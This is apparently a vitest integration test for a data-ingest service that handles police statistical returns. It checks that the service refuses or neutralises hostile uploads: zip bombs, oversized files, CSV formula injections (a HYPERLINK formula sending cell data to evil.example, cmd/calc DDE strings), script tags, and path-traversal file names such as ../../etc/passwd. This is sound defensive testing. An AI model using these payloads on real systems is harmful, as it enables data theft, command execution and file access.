/**
 * Hostile files sent to the real ingest service, started as `npm run ingest` starts it (its own
 * process, its own SQLite store in a fresh BEACON_HOME, the first administrator's token read
 * from what it prints): malformed, truncated, enormous and zip-bombed files, formulas and
 * scripts in notes and file names, path tricks in file names. Each is refused or kept as mere
 * text; nothing half-stored; no file written anywhere; the process serving throughout, its peak
 * memory bounded.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { EventStore } from '@beacon/event-store';
import { openSqliteEventStore } from '@beacon/event-store-sqlite';
import { type EventData, fromStoredEvent } from '@beacon/events';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeXlsx } from '../packages/returns/src/xlsx-writer.test-support.js';
import { zipBomb } from '@beacon/returns/test-support';

type Body = NonNullable<RequestInit['body']>;

const repo = join(import.meta.dirname, '..');
const HEADER = 'measure,area,period_start,period_end,value,numerator,denominator,sample_size,note';
const MAX_UPLOAD_BYTES = 2 * 1024 * 1024;

let home: string;
let child: ChildProcess;
let url: string;
let officer: string;
let store: EventStore;

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'beacon-hostile-'));
  child = spawn(process.execPath, ['--import', 'tsx', join(repo, 'services/ingest/src/main.ts')], {
    cwd: repo,
    env: { PATH: process.env.PATH, BEACON_HOME: home, BEACON_INGEST_PORT: '0', BEACON_MAX_UPLOAD_BYTES: String(MAX_UPLOAD_BYTES), BEACON_UPLOADS_PER_MINUTE: '1000' },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let printed = '';
  child.stdout?.on('data', (chunk: Buffer) => {
    printed += chunk.toString();
  });
  child.stderr?.resume();
  await new Promise<void>((resolve, reject) => {
    const started = setInterval(() => {
      if (/listening on http:\/\/127\.0\.0\.1:\d+/.test(printed)) {
        clearInterval(started);
        resolve();
      }
    }, 20);
    child.once('exit', (code) => reject(new Error(`the ingest service stopped (${code}) before listening: ${printed}`)));
  });
  url = /listening on (http:\/\/127\.0\.0\.1:\d+)/.exec(printed)?.[1] as string;
  const adminToken = /API token: (beacon_\S+)/.exec(printed)?.[1] as string;
  expect(printed).toMatch(/password: {2}\S{20}/);

  const asAdmin = (path: string, body: unknown) =>
    fetch(`${url}${path}`, { method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json', authorization: `Bearer ${adminToken}` } });
  expect((await asAdmin('/accounts', { user: 'nkp.officer', name: 'NKP data officer', role: 'data-officer', agency: 'north-kent-police', kind: 'machine' })).status).toBe(201);
  officer = ((await (await asAdmin('/accounts/nkp.officer/tokens', { label: 'hostile files test' })).json()) as { token: string }).token;
  store = await openSqliteEventStore({ file: join(home, 'events.sqlite') });
});

afterAll(async () => {
  await store?.close();
  child?.kill('SIGTERM');
  await new Promise((resolve) => (child?.exitCode !== null ? resolve(undefined) : child.once('exit', resolve)));
  await rm(home, { recursive: true, force: true });
});

/** Sends a return as North Kent Police's data officer; its name in ?fileName= unless undefined. */
const send = (body: Body, fileName: string | undefined, headers: Record<string, string> = {}) =>
  fetch(`${url}/returns?agency=north-kent-police${fileName === undefined ? '' : `&fileName=${encodeURIComponent(fileName)}`}`, {
    method: 'POST',
    body,
    headers: { authorization: `Bearer ${officer}`, 'content-type': 'application/octet-stream', ...headers },
    duplex: 'half',
  } as RequestInit);

/** The types of the events stored since `head`. */
const storedSince = async (head: bigint) => (await store.readAll({ after: head })).map((event) => fromStoredEvent(event));

/** The service still answers, promptly. */
async function stillServing(): Promise<void> {
  const response = await fetch(`${url}/agencies/north-kent-police/template.csv`, { headers: { authorization: `Bearer ${officer}` }, signal: AbortSignal.timeout(5_000) });
  expect(response.status).toBe(200);
  expect(child.exitCode).toBeNull();
}

/** The most memory the service has held since it started (VmHWM), in MB. */
async function peakMemoryMb(): Promise<number> {
  const status = await readFile(`/proc/${child.pid}/status`, 'utf8');
  return Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1]) / 1024;
}

describe('hostile files through POST /returns, to the real ingest process', () => {
  const refused: [string, () => Body, string, number, string][] = [
    ['an unclosed quote', () => `${HEADER}\r\nSAC,DBC,01/04/2008,30/04/2008,"110,,,,\r\nSAC,GBC,01/04/2008,30/04/2008,96,,,,\r\n`, 'quote.csv', 422, 'rejected'],
    ['random bytes', () => new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)), 'noise.csv', 415, 'unsupported-format'],
    ['a CSV cut short mid-row', () => `${HEADER}\r\nSAC,DBC,01/04/2008,30/04/2008,110,,,,\r\nSAC,GBC,01/0`, 'cut.csv', 422, 'rejected'],
    ['a CSV with control characters for a header', () => '\u0000\u0001\u0002;;;\r\n1;2;3\r\n', 'junk.csv', 415, 'unsupported-format'],
    ['a CSV whose header is not a return\'s', () => 'name,address,phone\r\nA,B,C\r\n', 'contacts.csv', 422, 'rejected'],
    [
      'an .xlsx cut short',
      () => makeXlsx({ sheets: [{ name: 'R', rows: [['measure', 'area', 'period_start', 'period_end', 'value'], ['SAC', 'DBC', '01/04/2008', '30/04/2008', 1]] }] }).subarray(0, 600),
      'cut.xlsx',
      422,
      'unreadable',
    ],
    ['a zip that is not a workbook', () => makeXlsx({ sheets: [] }), 'empty.xlsx', 422, 'unreadable'],
    ['a PDF renamed .csv', () => '%PDF-1.7\n1 0 obj << >> endobj\n', 'return.csv', 415, 'unsupported-format'],
  ];
  for (const [what, body, fileName, status, answer] of refused) {
    it(`refuses ${what} (${status} ${answer}), stores nothing, and goes on serving`, async () => {
      const head = await store.headPosition();
      const response = await send(body(), fileName);
      expect(response.status).toBe(status);
      expect(((await response.json()) as { status: string }).status).toBe(answer);
      expect(await storedSince(head)).toEqual([]);
      await stillServing();
    });
  }

  it('refuses an enormous file, whether its length is said or not (413), and goes on serving', async () => {
    const head = await store.headPosition();
    const enormous = Buffer.alloc(5 * MAX_UPLOAD_BYTES, `${HEADER}\r\n`);
    expect((await send(enormous, 'enormous.csv')).status).toBe(413);
    const chunked = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let at = 0; at < enormous.length; at += 256 * 1024) controller.enqueue(enormous.subarray(at, at + 256 * 1024));
        controller.close();
      },
    });
    expect((await send(chunked, 'enormous.csv')).status).toBe(413);
    expect(await storedSince(head)).toEqual([]);
    await stillServing();
  });

  it('refuses zip bombs (413) without unpacking them whole: its memory stays far below what they unpack to, and it goes on serving', async () => {
    const head = await store.headPosition();
    // 512 MB of rows and 256 MB of shared strings, each from well under a megabyte.
    const rows = await zipBomb('xl/worksheets/sheet1.xml', '<row/>'.repeat(16_384), 5_462);
    const strings = await zipBomb('xl/sharedStrings.xml', '<si><t>AAAAAAAAAAAAAAAA</t></si>'.repeat(8192), 1024);
    for (const [bomb, fileName] of [
      [rows, 'rows.xlsx'],
      [strings, 'strings.xlsx'],
    ] as const) {
      expect(bomb.length).toBeLessThan(MAX_UPLOAD_BYTES);
      const response = await send(bomb, fileName);
      expect(response.status).toBe(413);
      expect(((await response.json()) as { message: string }).message).toMatch(/unpacks to more than Beacon takes/);
    }
    expect(await storedSince(head)).toEqual([]);
    // Unpacked whole by the reader, the shared strings alone took 1.6 GB (see docs/threats.md).
    expect(await peakMemoryMb()).toBeLessThan(1_024);
    await stillServing();
  });

  it('keeps formulas and scripts in notes and file names as the text they are', async () => {
    const notes = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '<script>alert("note")</script>'];
    const rows = notes.map((note, i) => `SAC,${i === 1 ? 'GBC' : 'DBC'},01/0${4 + Math.floor(i / 2)}/2009,${['30/04', '30/04', '31/05'][i]}/2009,${100 + i},,,,"${note.replaceAll('"', '""')}"`);
    // No "/" in it: that would be taken for a folder (see the next test).
    const fileName = '=cmd|\'-c calc\'!A0 <img src=x onerror=alert(1)>.csv';
    const head = await store.headPosition();
    const response = await send(`${HEADER}\r\n${rows.join('\r\n')}\r\n`, fileName);
    expect(response.status).toBe(201);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(((await response.json()) as { fileName: string }).fileName).toBe(fileName);
    const events = await storedSince(head);
    expect(events[0]?.data).toMatchObject({ fileName });
    expect(events.slice(1).map((event) => (event.data as EventData<'ReadingRecorded'>).note)).toEqual(notes);
    await stillServing();
  });

  it('never takes a file name for a path: only its last part is kept, as text, and nothing is written anywhere', async () => {
    const homeBefore = (await readdir(home)).sort();
    const tricks: [string, string][] = [
      ['../../etc/passwd', 'passwd'],
      ['..\\..\\..\\Windows\\win.ini', 'win.ini'],
      ['/etc/shadow', 'shadow'],
      ['....//....//var/events.sqlite', 'events.sqlite'],
      ['../', 'upload'],
      ['..', 'upload'],
    ];
    for (const [i, [given, kept]] of tricks.entries()) {
      const head = await store.headPosition();
      // A month of its own for each, so none is a resubmission.
      const mm = String(i + 1).padStart(2, '0');
      const last = new Date(Date.UTC(2010, i + 1, 0)).getUTCDate();
      const response = await send(`${HEADER}\r\nSAC,DBC,01/${mm}/2010,${last}/${mm}/2010,${90 + i},,,,\r\n`, given);
      expect(response.status, given).toBe(201);
      expect(((await response.json()) as { fileName: string }).fileName).toBe(kept);
      expect((await storedSince(head))[0]?.data).toMatchObject({ fileName: kept });
    }
    // Percent-encoded in X-File-Name, the same.
    const encoded = await send(`${HEADER}\r\nSAC,GBC,01/09/2010,30/09/2010,95,,,,\r\n`, undefined, { 'x-file-name': '%2e%2e%2f%2e%2e%2fetc%2fpasswd' });
    expect(((await encoded.json()) as { fileName: string }).fileName).toBe('passwd');
    // The template's agency is matched against the officer's, never read as a path.
    const traversal = await fetch(`${url}/agencies/..%2F..%2Fetc%2Fpasswd/template.csv`, { headers: { authorization: `Bearer ${officer}` } });
    expect(traversal.status).toBe(403);
    expect((await readdir(home)).sort()).toEqual(homeBefore);
    await stillServing();
  });
});
